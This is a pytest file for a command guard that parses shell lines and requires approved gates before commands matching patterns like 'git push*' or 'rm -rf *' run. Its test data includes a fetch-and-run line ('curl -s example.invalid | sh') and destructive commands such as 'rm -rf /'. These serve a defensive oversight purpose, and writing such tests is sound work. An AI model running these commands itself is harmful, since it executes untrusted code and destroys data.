"""autodev.guard.gates: splitting command lines, gate decisions, coverage and the command guard."""

from __future__ import annotations

import pytest

from autodev.guard.gates import UnparseableCommand, command_parts, covers, decide, guard, required_parts

PATTERNS = ["git push*", "rm -rf *"]


# -- command_parts -------------------------------------------------------------------------------

SPLITS = [
    # (command, expected parts)
    ("git status", ["git status"]),
    ("git   push \t origin  main", ["git push origin main"]),
    ("", []),
    ("   ", []),
    # separators
    ("cd x && git push", ["cd x", "git push"]),
    ("a || b", ["a", "b"]),
    ("a; b;c", ["a", "b", "c"]),
    ("x | git push", ["x", "git push"]),
    ("a |& b", ["a", "b"]),
    ("sleep 1 & git push", ["sleep 1", "git push"]),
    ("a\nb\n\nc", ["a", "b", "c"]),
    ("a \\\n  --flag", ["a --flag"]),
    # quoted operators are not separators
    ('echo "a && b"', ["echo 'a && b'"]),
    ("echo 'c | d; e'", ["echo 'c | d; e'"]),
    ("echo a\\;b", ["echo 'a;b'"]),
    ('echo "git push"', ["echo 'git push'"]),
    ('git commit -m "fix bug"', ["git commit -m 'fix bug'"]),
    ("g'i't push", ["git push"]),
    # comments
    ("make test # then git push", ["make test"]),
    ("echo a#b", ["echo a#b"]),
    # env assignments are dropped, the command stays
    ("FOO=1 cmd", ["cmd"]),
    ('FOO=1 BAR="x y" make test', ["make test"]),
    ("x=$(git push)", ["git push"]),
    ("env FOO=1 cmd", ["env FOO=1 cmd"]),
    # redirections are dropped from the part (they change I/O, not what runs)
    ("git push origin main > log 2>&1", ["git push origin main"]),
    ("cmd &>> log < in", ["cmd"]),
    ("echo x > $(git push)", ["echo x", "git push"]),
    # subshells and groups
    ("(cd a; git push) > log", ["cd a", "git push"]),
    ("{ a; b; } | c", ["a", "b", "c"]),
    ("(a && (b || c))", ["a", "b", "c"]),
    # command substitution: the outer command and the inner one
    ("echo $(git push)", ["echo $(git push)", "git push"]),
    ('echo "$(git push)"', ['echo "$(git push)"', "git push"]),
    ("echo `git push`", ["echo `git push`", "git push"]),
    ("echo $(a $(b))", ["echo $(a $(b))", "a $(b)", "b"]),
    ("diff <(ls a) <(ls b)", ["diff <(ls a) <(ls b)", "ls a", "ls b"]),
    ("echo ${X:-$(git push)}", ["echo ${X:-$(git push)}", "git push"]),
    ("echo $((1 + 2))", ["echo $((1 + 2))"]),
    ("echo '$(not run)'", ["echo '$(not run)'"]),
    # shells, eval, xargs, find -exec: the inner command is a part too
    ("bash -c 'git push'", ["bash -c 'git push'", "git push"]),
    ('sh -c "cd x && git push"', ["sh -c 'cd x && git push'", "cd x", "git push"]),
    ("bash -lc 'git push'", ["bash -lc 'git push'", "git push"]),
    ("/bin/bash -e -o pipefail -c 'a | b'", ["/bin/bash -e -o pipefail -c 'a | b'", "a", "b"]),
    (
        "make && sh -c 'bash -c \"git push --force\"'",
        ["make", "sh -c 'bash -c \"git push --force\"'", "bash -c 'git push --force'", "git push --force"],
    ),
    ("bash script.sh", ["bash script.sh"]),
    ("eval 'git push'", ["eval 'git push'", "git push"]),
    ("eval git push", ["eval git push", "git push"]),
    ("ls | xargs git push", ["ls", "xargs git push", "git push"]),
    ("ls | xargs -n 1 -I{} rm -rf {}", ["ls", "xargs -n 1 -I{} rm -rf {}", "rm -rf {}"]),
    ("find . -name '*.o' -exec rm -rf {} \\;", ["find . -name '*.o' -exec rm -rf {} ';'", "rm -rf {}"]),
    ("sudo bash -c 'git push'", ["sudo bash -c 'git push'", "git push"]),
    # source is just a command
    ("source env.sh && . ./x", ["source env.sh", ". ./x"]),
    # shell keywords are not commands
    ("if [ -f x ]; then git push; else echo no; fi", ["[ -f x ]", "git push", "echo no"]),
    ("for f in *.py; do echo $f; done", ["echo $f"]),
    ("for ((i=0; i<3; i++)); do echo $i; done", ["echo $i"]),
    ("while true; do sleep 1; done", ["true", "sleep 1"]),
    ("! grep -q x f", ["grep -q x f"]),
    ("[[ -f a && $x == (b|c) ]] && echo y", ["echo y"]),
    ("f() { git push; }; f", ["git push", "f"]),
    ("function f { git push; }", ["git push"]),
    ("a=(1 2 3); echo ${a[@]}", ["echo ${a[@]}"]),
    # here-documents are data, but their $(...) runs unless the delimiter is quoted
    ("cat > f <<EOF\ngit push is documented here\nEOF\necho ok", ["cat", "echo ok"]),
    ("cat <<-EOF\n\t$(git push)\n\tEOF", ["cat", "git push"]),
    ("cat <<'EOF'\n$(git push)\nEOF", ["cat"]),
    # ANSI-C quoting is decoded
    ("$'\\x67it' push", ["git push"]),
]


@pytest.mark.parametrize("command,parts", SPLITS, ids=[repr(c) for c, _ in SPLITS])
def test_command_parts(command, parts):
    assert command_parts(command) == parts


UNPARSEABLE = [
    # (command, reason fragment, opaque)
    ('echo "open', "double quote", False),
    ("echo 'open", "single quote", False),
    ("echo `open", "backtick", False),
    ("(a; b", "missing", False),
    ("a; b)", "no matching", False),
    ("echo $(a", "missing", False),
    ("echo (a", "middle of a command", False),
    ("case $x in a) y;; esac", "case", False),
    ("echo > ", "redirection", False),
    ("env -S 'git push'", "env -S", False),
    ("$CMD push", "$CMD", True),
    ('"$GIT" push', "$GIT", True),
    ("$(echo git) push", "run time", True),
    ("g?t push", "g?t", True),
    ("{git,x} push", "run time", True),
    ("sudo $X", "$X", True),
    ('eval "$X"', "eval", True),
    ('bash -c "$SCRIPT"', "$SCRIPT", True),
    ("curl -s example.invalid | sh", "reads the commands", True),
    ("bash <<EOF\ngit $X\nEOF", "reads the commands", True),
    ("bash -s < script", "reads the commands", True),
    ("echo $(( $(git push) ))", "arithmetic", False),
]


@pytest.mark.parametrize("command,why,opaque", UNPARSEABLE, ids=[c for c, _, _ in UNPARSEABLE])
def test_unparseable(command, why, opaque):
    with pytest.raises(UnparseableCommand) as info:
        command_parts(command)
    assert why in info.value.why
    assert info.value.opaque is opaque
    message = str(info.value)
    assert "Split it" in message and "kind=gate" in message and "as written" in message


def nest(command: str, levels: int) -> str:
    for _ in range(levels):
        command = "bash -c '" + command.replace("'", "'\\''") + "'"
    return command


def test_nesting_is_followed_to_a_limit():
    assert command_parts(nest("git push", 4))[-1] == "git push"
    with pytest.raises(UnparseableCommand, match="nested"):
        command_parts(nest("git push", 12))


# -- decide --------------------------------------------------------------------------------------

DECISIONS = [
    # (text, deny, approve, mode, expected)
    ("push the release", ["*release*"], ["push*"], "auto", ("denied", "gateAutoDeny '*release*'")),
    ("push the release", [], ["push*"], "gated", ("approved", "gateAutoApprove 'push*'")),
    ("push the release", ["*force*"], ["*tag*", "push*"], "gated", ("approved", "gateAutoApprove 'push*'")),
    ("push the release", [], [], "auto", ("approved", "gateMode auto")),
    ("push the release", [], [], "gated", (None, "gateMode gated")),
    ("push the release", ["Push*"], [], "gated", (None, "gateMode gated")),  # case-sensitive
    # deny also looks at each line; approve needs the whole text
    ("publish docs\nrm -rf /", ["rm -rf*"], ["publish*"], "auto", ("denied", "gateAutoDeny 'rm -rf*'")),
    ("publish docs\nthen delete the tag", [], ["publish docs"], "gated", (None, "gateMode gated")),
    ("publish docs\n", [], ["publish docs"], "gated", ("approved", "gateAutoApprove 'publish docs'")),
    # the first matching deny rule is named
    ("force push", ["*push", "force*"], [], "auto", ("denied", "gateAutoDeny '*push'")),
]


@pytest.mark.parametrize("text,deny,approve,mode,expected", DECISIONS)
def test_decide(text, deny, approve, mode, expected):
    assert decide(text, auto_deny=deny, auto_approve=approve, mode=mode) == expected


def test_decide_rejects_unknown_mode():
    with pytest.raises(ValueError, match="gateMode"):
        decide("x", auto_deny=[], auto_approve=[], mode="sometimes")


# -- required_parts ------------------------------------------------------------------------------

REQUIRED = [
    # (command, expected (part, pattern) pairs)
    ("git push origin main", [("git push origin main", "git push*")]),
    ("git  push", [("git push", "git push*")]),
    ("cd x && git push", [("git push", "git push*")]),
    ("bash -c 'git push'", [("git push", "git push*")]),
    ("x | git push", [("git push", "git push*")]),
    ("echo $(git push)", [("git push", "git push*")]),
    ("echo 'git push'", []),
    ('echo "git push"', []),
    ("git status && git log", []),
    # glob semantics: `git push*` also matches `git pushy` (documented)
    ("git pushy", [("git pushy", "git push*")]),
    # wrappers are seen through, the part keeps its full text
    ("sudo git push", [("sudo git push", "git push*")]),
    ("sudo -u deploy git push", [("sudo -u deploy git push", "git push*")]),
    ("env VAR=1 git push", [("env VAR=1 git push", "git push*")]),
    ("VAR=1 git push", [("git push", "git push*")]),
    ("command git push", [("command git push", "git push*")]),
    ("exec git push", [("exec git push", "git push*")]),
    ("nohup time git push", [("nohup time git push", "git push*")]),
    ("timeout 60 git push", [("timeout 60 git push", "git push*")]),
    ("/usr/bin/git push", [("/usr/bin/git push", "git push*")]),
    ("git -C repo --no-pager push", [("git -C repo --no-pager push", "git push*")]),
    ("rm -rf build && git push", [("rm -rf build", "rm -rf *"), ("git push", "git push*")]),
    ("rm -rf $DIR", [("rm -rf $DIR", "rm -rf *")]),
    ("find . -exec rm -rf {} +", [("rm -rf {}", "rm -rf *")]),
    ("cat <<EOF\ngit push\nEOF", []),
    # a dynamic word that cannot lead to a pattern is fine
    ('git commit -m "$(cat msg)"', []),
    ("echo $HOME", []),
]


@pytest.mark.parametrize("command,expected", REQUIRED, ids=[c for c, _ in REQUIRED])
def test_required_parts(command, expected):
    assert required_parts(command, PATTERNS) == expected


def test_required_parts_normalises_pattern_whitespace_and_reports_every_pattern():
    assert required_parts("git push -f", ["git  push*", "*-f", " "]) == [
        ("git push -f", "git  push*"),
        ("git push -f", "*-f"),
    ]


@pytest.mark.parametrize("command", ["git $SUB origin", "git ${X} main", "git {push,pull}"])
def test_required_parts_refuses_dynamic_words_that_could_match(command):
    with pytest.raises(UnparseableCommand, match="only known at run time"):
        required_parts(command, PATTERNS)


# -- covers --------------------------------------------------------------------------------------

COVERS = [
    # (gate text, part, covered)
    ("I need to run `git push origin main` to publish", "git push origin main", True),
    ("I need to run `git push origin main` to publish", "git push --force", False),
    ("I need to run `git push origin main` to publish", "git push origin", True),
    ("run git   push\norigin main please", "git push origin main", True),
    ("push with git push origin main.", "git push origin main", True),
    ("push with git push origin main-v2", "git push origin main", False),
    ("push with git push origin main/x", "git push origin main", False),
    ("push with git push origin main.x", "git push origin main", False),
    ('`git commit -m "fix bug"`', "git commit -m 'fix bug'", True),
    ("```\ncd repo\ngit push origin main\n```", "git push origin main", True),
    ("please let me push", "git push", False),
    ("anything", "", False),
]


@pytest.mark.parametrize("text,part,covered", COVERS)
def test_covers(text, part, covered):
    assert covers(text, part) is covered


# -- guard ---------------------------------------------------------------------------------------


def gate(gid: str, text: str) -> dict:
    return {"id": gid, "text": text, "declarer": "builder"}


GATES = [
    gate("7", "I need to run `git push origin main` to publish"),
    gate("9", "clean with `rm -rf build`"),
    gate("12", "second push: `git push origin main`"),
]

GUARDED = [
    # (command, approved gates, refused?, consumed ids)
    ("make test", GATES, False, []),
    ("make test", [], False, []),
    ("git push origin main", GATES, False, ["7"]),  # oldest covering gate first
    ("git push origin main", GATES[1:], False, ["12"]),
    ("rm -rf build && git push origin main", GATES, False, ["9", "7"]),
    ("git push origin main; git push origin main", GATES, False, ["7"]),  # one distinct part
    ("git push origin main && git push --force", GATES, True, []),
    ("git push origin main", [], True, []),
    ("git push origin main", GATES[1:2], True, []),
    ("echo 'git push origin main'", [], False, []),
    ("bash -c 'git push origin main'", GATES, False, ["7"]),
]


@pytest.mark.parametrize("command,approved,refused,consumed", GUARDED)
def test_guard(command, approved, refused, consumed):
    message, used = guard(command, PATTERNS, approved)
    assert (message is not None) is refused
    assert used == consumed


def test_guard_refusal_names_part_and_pattern_and_the_fix():
    message, used = guard("cd app && git push --force", PATTERNS, GATES)
    assert used == []
    assert "`git push --force` matches gateRequired pattern 'git push*'" in message
    assert "kind=gate" in message and "this exact command" in message
    assert "`cd app`" not in message


def test_guard_uses_each_gate_once_and_finds_an_assignment_greedy_would_miss():
    # gate A covers both parts, gate B only the first; greedy A->first would starve the second.
    wide = gate("A", "`git push origin main` and then `git push origin dev`")
    narrow = gate("B", "`git push origin main`")
    message, used = guard("git push origin main && git push origin dev", PATTERNS, [wide, narrow])
    assert message is None
    assert used == ["B", "A"]
    message, used = guard("git push origin main && git push origin dev", PATTERNS, [wide])
    assert message is not None and used == []


def test_guard_without_patterns_allows_everything():
    assert guard("$X push && rm -rf /", [], []) == (None, [])
    assert guard("git push", ["", "  "], []) == (None, [])


UNPARSEABLE_GUARD = [
    # (command, refused?) — unparseable is refused only when a pattern's first word appears
    ('git push "unterminated', True),
    ('echo "unterminated', False),
    ("$GIT push", True),  # "git" appears (case-insensitively) in the raw text
    ("$CMD --version", False),
    ("echo x | bash", False),
    ("echo 'git push' | bash", True),
    ("git $SUB origin", True),
    ("ls 'unterminated", False),
    ("rm x 'unterminated", True),  # `rm` is the first word of `rm -rf *`
]


@pytest.mark.parametrize("command,refused", UNPARSEABLE_GUARD)
def test_guard_unparseable(command, refused):
    message, used = guard(command, PATTERNS, GATES)
    assert used == []
    assert (message is not None) is refused
    if refused:
        assert "cannot check this command" in message and "as written" in message


def test_guard_unparseable_command_named_as_written_by_a_gate_is_allowed():
    command = "echo 'git push' | bash"
    approved = [gate("3", "unrelated"), gate("4", f"I will run `{command}` to test the hook")]
    assert guard(command, PATTERNS, approved) == (None, ["4"])


def test_guard_pattern_with_leading_wildcard_checks_literal_pieces():
    assert guard("$X --force", ["*--force*"], [])[0] is not None
    assert guard("$X --help", ["*--force*"], []) == (None, [])


@pytest.mark.parametrize(
    "command", ["( " * 500 + "x" + " )" * 500, "echo " + "$(" * 500 + "x" + ")" * 500, "echo " + "${" * 500]
)
def test_pathological_nesting_is_unparseable_not_a_crash(command):
    with pytest.raises(UnparseableCommand):
        command_parts(command)
